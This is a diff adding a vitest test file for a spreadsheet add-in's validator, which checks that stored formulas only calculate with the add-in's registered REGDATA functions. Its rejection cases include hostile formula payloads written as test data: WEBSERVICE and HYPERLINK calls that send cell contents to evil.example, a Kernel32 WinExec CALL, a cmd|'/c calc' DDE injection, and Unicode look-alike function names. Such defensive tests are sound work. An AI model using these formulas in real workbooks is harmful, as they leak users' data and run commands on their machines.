@@ -1,0 +1,90 @@
+import { readFileSync } from "node:fs";
+import { describe, expect, it } from "vitest";
+import { onlyCalculates, registeredFunctions } from "../../../src/workbook/formula-text/calculating";
+import { readFunctions } from "../../../src/help/documented-functions";
+
+const answer = 'REGDATA.VALUE("06001",1056)';
+
+describe("a frozen formula comes back unasked", () => {
+  it.each([
+    `=${answer}`,
+    `=IFERROR(${answer},"none")`,
+    `=_xlfn.XLOOKUP(A1,$B$2:$B$9,C:C)&regdata.value([@geoID],1056)`,
+    "=REGDATA.MATRIX(Table1[geoID],'My sheet'!$1:$1)",
+    `=SUM(Fees[[#This Row],[Fee (USD)]],-${answer},TRUE,1E5)`,
+    "=REGDATA.MATRIX(A2#,Sheet1!B1:D1)",
+    `=IF(${answer}="WEBSERVICE(""x"")",#N/A,'It''s'!B2)`,
+    `= REGDATA.VALUE ( INDEX( 'My sheet'!$A$2:$B$9 , 1 , 2 ) , { 1,-2;"a|b",TRUE } )\n& TEXT(-1.5%, "[>0]0.0")`,
+    "=REGDATA.CARD(Sheet1!A:B,Fees[@[Fee (USD)]:[Fee 2]])<>XFD1048576",
+    "=@REGDATA.AHJ(A1:INDEX(B:B,3))&(A1:B9 B2:C3)&Sheet1!A2#",
+  ])("where it only calculates: %s", (formula) => {
+    expect(onlyCalculates(formula, "REGDATA")).toBe(true);
+  });
+
+  it.each([
+    `=HYPERLINK("https://evil.example/?"&A1,${answer})`,
+    `=${answer}&WEBSERVICE("https://evil.example/?"&A1)`,
+    `=${answer}&webservice (A1)`,
+    `=${answer}&CALL("Kernel32","WinExec","JC","calc")`,
+    `=${answer}&cmd|'/c calc'!A0`,
+    `=${answer}&'https://evil.example/[x.xlsx]S'!A1`,
+    `=${answer}&[Book1.xlsx]Sheet1!A1`,
+    `=${answer}&Book1.xlsx!secret`,
+    `=${answer}&'Book 1.xlsx'!secret`,
+    `=${answer}&INDIRECT(A1)`,
+    `=${answer}&OTHER.ADDIN(A1)`,
+    `=${answer}&REGDATA_DEV.VALUE(A1)`,
+    // What the add-in does not register may be a name.
+    "=REGDATA.EVIL(A1)",
+    "=_xlfn.REGDATA.VALUE(A1)",
+    // What stands on a sheet or in another workbook is no function of Excel's.
+    "=Sheet1!SUM(A1)",
+    "=Sheet1!LOG10(A1)",
+    "='a b'!SUM(A1)",
+    "=PERSONAL!SUM(1)",
+    "=Book1!REGDATA.VALUE(A1)",
+    "=Book1!Table1[Col]",
+    "='Book1'!Table1[Col]",
+    "=[Book1]A1-B1!C1",
+    "=[Book1] A1-B1!C1",
+    "=[Book1]!A1",
+    "=Evil[x](1)",
+    "=A1(1)",
+    // Marks may belong to a name, and capitals are not the same everywhere.
+    "=A1\u0301SUM(B1)",
+    "=A1\u00b7SUM(B1)",
+    "=A1?SUM(B1)",
+    "=A1SUM(B1)",
+    "=1SUM(B1)",
+    "=\u0131F(A1,B1)",
+    "=\u017fUM(A1)",
+    "=\ufb01ND(A1,B1)",
+    // Beyond the sheet an address is a name.
+    "=SUM(XFE1)",
+    "=SUM(A1048577)",
+    "=SUM(A0)",
+    "=SUM(A:XFE)",
+    // A name may stand for any formula.
+    `=REGDATA.VALUE(secret,1056)`,
+    `=REGDATA.VALUE(Sheet1!secret,1056)`,
+    `=${answer}&x`,
+    // A function may be called under another name.
+    `=LET(SUM,WEBSERVICE,SUM(${answer}))`,
+    `=MAP(${answer},WEBSERVICE)`,
+    `=IF(1,WEBSERVICE,1)(${answer})`,
+    // Quotes in a column's name must not hide what stands between them.
+    `=REGDATA.VALUE(T[a"],1)&WEBSERVICE(A1)&T[b"]`,
+    `=REGDATA.VALUE(T[a']"],1)&WEBSERVICE(A1)&T[b"]`,
+    `=REGDATA.VALUE(T[a'],1)&WEBSERVICE(A1)&T[b']`,
+  ])("not where it may do more: %s", (formula) => {
+    expect(onlyCalculates(formula, "REGDATA")).toBe(false);
+  });
+
+  it("where it calls any function that the add-in registers, by its own namespace", () => {
+    const source = readFileSync(new URL("../../../src/functions/functions.ts", import.meta.url), "utf8");
+    const names = readFunctions(source).map(({ name }) => name);
+    expect([...registeredFunctions].sort()).toEqual(names.sort());
+    for (const name of names) expect(onlyCalculates(`=REGDATA_DEV.${name}(A1)`, "REGDATA_DEV")).toBe(true);
+    expect(onlyCalculates("=REGDATA_DEVXVALUE(A1)", "REGDATA_DEV")).toBe(false);
+  });
+});
